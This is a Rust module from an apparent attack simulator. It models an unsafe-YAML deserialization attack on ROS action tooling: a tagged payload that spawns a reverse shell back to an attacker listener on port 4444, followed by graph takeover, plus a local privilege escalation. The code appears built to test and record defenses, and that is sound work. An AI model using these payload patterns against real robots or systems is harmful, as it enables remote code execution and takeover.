//! Attack 1: the unsafe-YAML path in the action tooling, exercised two
//! ways — remote execution over the launch channel (A1.1) and local
//! privilege escalation (A1.2).

use std::net::Ipv4Addr;
use std::rc::Rc;

use minyaml::GadgetRegistry;

use crate::rosgraph::{
    self, attack_launch_file, axclient_send_goal, parse_launch, remote_launch, run_local_tool,
    GoalOutcome, Origin, PublisherApp, SessionId, SimEffect, User,
};
use crate::simnet::world::World;
use crate::simnet::HostId;

use super::{takeover::attack_graph_takeover, AttackId, AttackOutcome, EvidenceKind, EvidenceRef};

pub struct A11Config {
    /// Where the payload tells the victim to call back.
    pub callback: (Ipv4Addr, u16),
    /// Override payload text; defaults to the shell gadget aimed at
    /// `callback`.
    pub payload: Option<String>,
}

impl A11Config {
    pub fn default_for(world: &World, attacker: HostId, target: HostId) -> A11Config {
        // The callback address is the attacker interface facing the target.
        let target_ip = reachable_ip(world, attacker, target);
        let callback_ip = world
            .egress_ip(attacker, target_ip)
            .unwrap_or_else(|| world.host(attacker).primary_ip().expect("attacker has an address"));
        A11Config {
            callback: (callback_ip, 4444),
            payload: None,
        }
    }

    fn payload_text(&self) -> String {
        match &self.payload {
            Some(p) => p.clone(),
            None => format!(
                "!!obj/apply:spawn_shell ['{}', {}]",
                self.callback.0, self.callback.1
            ),
        }
    }
}

/// Target address as seen from the attacker: prefer a shared segment.
fn reachable_ip(world: &World, from: HostId, target: HostId) -> Ipv4Addr {
    for iface in &world.host(target).interfaces {
        if world
            .host(from)
            .interfaces
            .iter()
            .any(|i| i.segment == iface.segment)
        {
            return iface.ip;
        }
    }
    world.host(target).primary_ip().expect("target has an address")
}

/// A1.1: remote launch of the action tool, tagged payload, reverse shell,
/// graph takeover. Fails cleanly at the first blocked step.
pub fn attack_a11_remote_exec(
    world: &mut World,
    attacker: HostId,
    target: HostId,
    config: &A11Config,
) -> AttackOutcome {
    let mut outcome = AttackOutcome::new(AttackId::A1_1);

    // Listener for the callback before anything fires.
    let shell_app = world.add_app(
        attacker,
        Box::new(rosgraph::ShellListenerApp { host: attacker }),
    );
    world.listen(shell_app, attacker, config.callback.0, config.callback.1);

    let target_ip = reachable_ip(world, attacker, target);
    let spec = match parse_launch(&attack_launch_file(target_ip)) {
        Ok(s) => s,
        Err(e) => {
            let name = world.host(attacker).name.clone();
            let idx = world.log("attack-stage-failed", &name, format!("launch parse: {}", e));
            outcome.push_evidence(None, EvidenceKind::StageBlocked, EvidenceRef::Event(idx), "launch file");
            return outcome.fail("launch-parse");
        }
    };
    let tool = match remote_launch(world, attacker, &spec) {
        Ok(t) => t,
        Err(e) => {
            let name = world.host(attacker).name.clone();
            let idx = world.log("attack-stage-failed", &name, format!("remote launch: {}", e));
            outcome.push_evidence(None, EvidenceKind::StageBlocked, EvidenceRef::Event(idx), format!("{}", e));
            return outcome.fail("remote-launch");
        }
    };
    outcome
        .sessions_gained
        .push(world.session(tool.session).clone());

    let action = "/ur_hardware_interface/set_mode";
    match axclient_send_goal(world, &tool, action, &config.payload_text()) {
        Ok(GoalOutcome::Effects(_)) => {}
        Ok(GoalOutcome::Rejected { tag }) => {
            let idx = last_event_index(world, "parse-rejected")
                .unwrap_or_else(|| world.events.len().saturating_sub(1));
            outcome.push_evidence(
                None,
                EvidenceKind::ParseRejection,
                EvidenceRef::Event(idx),
                format!("safe parsing refused {}", tag),
            );
            return outcome.fail("goal-parse");
        }
        Ok(other) => {
            let name = world.host(attacker).name.clone();
            let idx = world.log("attack-stage-failed", &name, format!("goal: {:?}", other));
            outcome.push_evidence(None, EvidenceKind::StageBlocked, EvidenceRef::Event(idx), "payload had no effect");
            return outcome.fail("goal-parse");
        }
        Err(e) => {
            let name = world.host(attacker).name.clone();
            let idx = world.log("attack-stage-failed", &name, format!("goal transport: {}", e));
            outcome.push_evidence(None, EvidenceKind::StageBlocked, EvidenceRef::Event(idx), format!("{}", e));
            return outcome.fail("goal-transport");
        }
    }
    world.settle();

    // Did the callback land?
    let target_name = world.host(target).name.clone();
    let shell: Option<SessionId> = world
        .sessions
        .iter()
        .enumerate()
        .rev()
        .find(|(_, s)| s.host == target_name && s.origin == Origin::ReverseShell)
        .map(|(i, _)| i);
    match shell {
        Some(id) => {
            outcome.sessions_gained.push(world.session(id).clone());
            let idx = last_event_index(world, "reverse-shell").unwrap_or(0);
            outcome.push_evidence(
                None,
                EvidenceKind::SessionGained,
                EvidenceRef::Event(idx),
                format!("reverse shell from {}", target_name),
            );
        }
        None => {
            let name = world.host(attacker).name.clone();
            let idx = world.log("attack-stage-failed", &name, "callback filtered".to_string());
            outcome.push_evidence(None, EvidenceKind::StageBlocked, EvidenceRef::Event(idx), "callback filtered");
            return outcome.fail("reverse-shell");
        }
    }

    attack_graph_takeover(world, target, &mut outcome);
    outcome.succeeded = outcome
        .graph_effects
        .iter()
        .any(|e| matches!(e, super::GraphEffect::MessageForgery { .. }));
    if !outcome.succeeded {
        outcome.failed_stage = Some("takeover".to_string());
    }
    outcome
}

/// A1.2: a maintainer session invokes the locally runnable tool through the
/// same unsafe path; success yields ROS privileges, demonstrated by a
/// harmless rogue registration that touches no robot.
pub fn attack_a12_privesc(
    world: &mut World,
    host: HostId,
    _session: SessionId,
    registry: &Rc<GadgetRegistry<SimEffect>>,
) -> AttackOutcome {
    let mut outcome = AttackOutcome::new(AttackId::A1_2);
    let action = "/ur_hardware_interface/set_mode";
    match run_local_tool(
        world,
        host,
        User::Maintainer,
        registry,
        action,
        "!!obj/apply:local_shell []",
    ) {
        Ok(GoalOutcome::Effects(_)) => {}
        Ok(GoalOutcome::Rejected { tag }) => {
            let idx = last_event_index(world, "parse-rejected").unwrap_or(0);
            outcome.push_evidence(
                None,
                EvidenceKind::ParseRejection,
                EvidenceRef::Event(idx),
                format!("safe parsing refused {}", tag),
            );
            return outcome.fail("goal-parse");
        }
        Ok(other) => {
            let name = world.host(host).name.clone();
            let idx = world.log("attack-stage-failed", &name, format!("goal: {:?}", other));
            outcome.push_evidence(None, EvidenceKind::StageBlocked, EvidenceRef::Event(idx), "payload had no effect");
            return outcome.fail("goal-parse");
        }
        Err(msg) => {
            let name = world.host(host).name.clone();
            let idx = world.log("attack-stage-failed", &name, msg.to_string());
            outcome.push_evidence(None, EvidenceKind::StageBlocked, EvidenceRef::Event(idx), msg);
            return outcome.fail("tool-access");
        }
    }
    world.settle();

    let host_name = world.host(host).name.clone();
    let escalated = world
        .sessions
        .iter()
        .rev()
        .find(|s| s.host == host_name && s.user == User::Ros && s.origin == Origin::Exploit)
        .cloned();
    match escalated {
        Some(session) => {
            outcome.sessions_gained.push(session);
            let idx = last_event_index(world, "session").unwrap_or(0);
            outcome.push_evidence(
                None,
                EvidenceKind::SessionGained,
                EvidenceRef::Event(idx),
                "maintainer escalated to ros",
            );
        }
        None => {
            let idx = world.log("attack-stage-failed", &host_name, "no escalation".to_string());
            outcome.push_evidence(None, EvidenceKind::StageBlocked, EvidenceRef::Event(idx), "no escalation");
            return outcome.fail("escalation");
        }
    }

    // Graph-control demonstration on a diagnostics topic: proves G1 while
    // leaving every robot stream untouched.
    if let Some(master) = world.labels.master_addr {
        let bind_ip = world.egress_ip(host, master.0);
        if let Some(bind_ip) = bind_ip {
            let rpc_port = world.alloc_port(host);
            let data_port = world.alloc_port(host);
            rosgraph::spawn(
                world,
                host,
                Box::new(PublisherApp::new(
                    "/privesc_probe",
                    "/diagnostics",
                    host,
                    bind_ip,
                    rpc_port,
                    data_port,
                    None,
                    0,
                    None,
                    master,
                )),
            );
            world.settle();
            let idx = last_event_index(world, "register").unwrap_or(0);
            outcome.graph_effects.push(super::GraphEffect::RoguePublisher {
                topic: "/diagnostics".to_string(),
            });
            outcome.push_evidence(
                None,
                EvidenceKind::SessionGained,
                EvidenceRef::Event(idx),
                "graph mutation as escalated user",
            );
        }
    }
    outcome.succeeded = !outcome.sessions_gained.is_empty() && !outcome.graph_effects.is_empty();
    outcome
}

fn last_event_index(world: &World, kind: &str) -> Option<usize> {
    world
        .events
        .iter()
        .enumerate()
        .rev()
        .find(|(_, e)| e.kind == kind)
        .map(|(i, _)| i)
}
